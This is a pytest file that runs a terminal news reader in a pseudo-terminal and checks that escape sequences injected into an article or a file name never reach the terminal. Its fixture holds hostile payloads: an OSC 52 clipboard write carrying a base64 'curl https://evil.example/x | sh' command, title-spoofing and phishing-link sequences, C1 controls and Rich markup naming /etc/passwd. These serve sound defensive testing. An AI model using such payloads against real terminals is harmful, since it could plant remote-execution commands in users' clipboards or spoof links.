"""The real app in a pseudo-terminal: escape sequences inside an article never reach the terminal.

Textual writes its own CSI sequences, so the checks look for the attacker's payloads in the raw
bytes the terminal would receive, and for the visible stand-ins ``safe_text`` shows instead.
"""

from __future__ import annotations

import base64
import json
import os
import select
import subprocess
import time
from pathlib import Path

import pytest
from pty_app import start_newsfold, stop_newsfold

pytestmark = pytest.mark.skipif(os.name != "posix", reason="needs a POSIX pseudo-terminal")

ROWS, COLUMNS = 30, 100
PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh").decode()
EVIL_URL = "https://evil.example/phish"
TITLE_MARK = "PWNTITLE"
ARTICLE = {
    "id": "hostile",
    "title": f"{TITLE_MARK} \x1b]52;c;{PAYLOAD}\x07 \x1b]0;pwned-title\x07 \x9b2J \u202eesrever",
    "source": "Wire \x1b]8;;" + EVIL_URL + "\x1b\\link\x1b]8;;\x1b\\",
    "url": "https://example.org/story",
    "paragraphs": [
        f"Body \x1b]8;;{EVIL_URL}\x1b\\click\x1b]8;;\x1b\\ here \x1b[2J\x1b[H done.",
        "Rich markup [@click=app.quit]quit[/] and [link=file:///etc/passwd]x[/link] $accent.",
        f"Clipboard \x1b]52;c;{PAYLOAD}\x1b\\ and title \x1b]2;pwned-title\x07"
        " and C1 \x9d0;pwned\x9c.",
    ],
}
STARTUP_TIMEOUT = 8.0
SETTLE_SECONDS = 1.0
EXIT_TIMEOUT = 3.0


def _read_until(master: int, buffer: bytearray, wanted: bytes, deadline: float) -> bool:
    """Read the pty into ``buffer`` until ``wanted`` shows up or the deadline passes."""
    while wanted not in buffer:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return False
        ready, _, _ = select.select([master], [], [], min(remaining, 0.2))
        if not ready:
            continue
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            return False
        if not chunk:
            return False
        buffer.extend(chunk)
    return True


def _drain(master: int, buffer: bytearray, child: subprocess.Popen[bytes], seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(master, 65536)
            except OSError:
                return
            if not chunk:
                return
            buffer.extend(chunk)
        elif child.poll() is not None:
            return


def _run_app(tmp_path: Path, sources: list[str]) -> bytes:
    """Run the reader on ``sources`` in a pty, wait for the title, press q; the raw output."""
    child, master = start_newsfold(tmp_path, sources, ROWS, COLUMNS)
    raw = bytearray()
    try:
        painted = _read_until(master, raw, TITLE_MARK.encode(), time.monotonic() + STARTUP_TIMEOUT)
        assert painted, f"the title was never painted; got {bytes(raw[-500:])!r}"
        # Let the first frames (and any notification) finish before quitting.
        _drain(master, raw, child, SETTLE_SECONDS)
        os.write(master, b"q")
        _drain(master, raw, child, EXIT_TIMEOUT)
        assert child.wait(timeout=EXIT_TIMEOUT) == 0
    finally:
        stop_newsfold(child, master)
    return bytes(raw)


def _article_file(tmp_path: Path) -> str:
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(ARTICLE) + "\n", encoding="utf-8")
    return str(source)


def test_injected_escape_sequences_never_reach_the_terminal(tmp_path: Path) -> None:
    data = _run_app(tmp_path, [_article_file(tmp_path)])
    # The attacker's sequences, in every form the article carried them.
    assert b"\x1b]52;c;" + PAYLOAD.encode() not in data
    assert b"]52;c;" + PAYLOAD.encode() + b"\x07" not in data
    assert b"\x1b]0;pwned" not in data and b"\x1b]2;pwned" not in data
    assert b"\x1b]8;;" + EVIL_URL.encode() not in data
    # C1 controls (UTF-8 encoded) and the right-to-left override are never written.
    for c1 in ("\x9b", "\x9c", "\x9d"):
        assert c1.encode() not in data
    assert "\u202e".encode() not in data
    # What the reader sees instead: the escapes as visible control pictures, markup as text.
    assert "\u241b]52;c;".encode() in data
    assert "\u241b]0;pwned-title\u2407".encode() in data
    assert b"[@click=app.quit]quit[/]" in data


def test_a_hostile_file_name_in_a_load_error_never_reaches_the_terminal(tmp_path: Path) -> None:
    missing = tmp_path / "missing\x1b]0;pwned-name\x07.txt"
    data = _run_app(tmp_path, [_article_file(tmp_path), str(missing)])
    assert b"\x1b]0;pwned-name" not in data
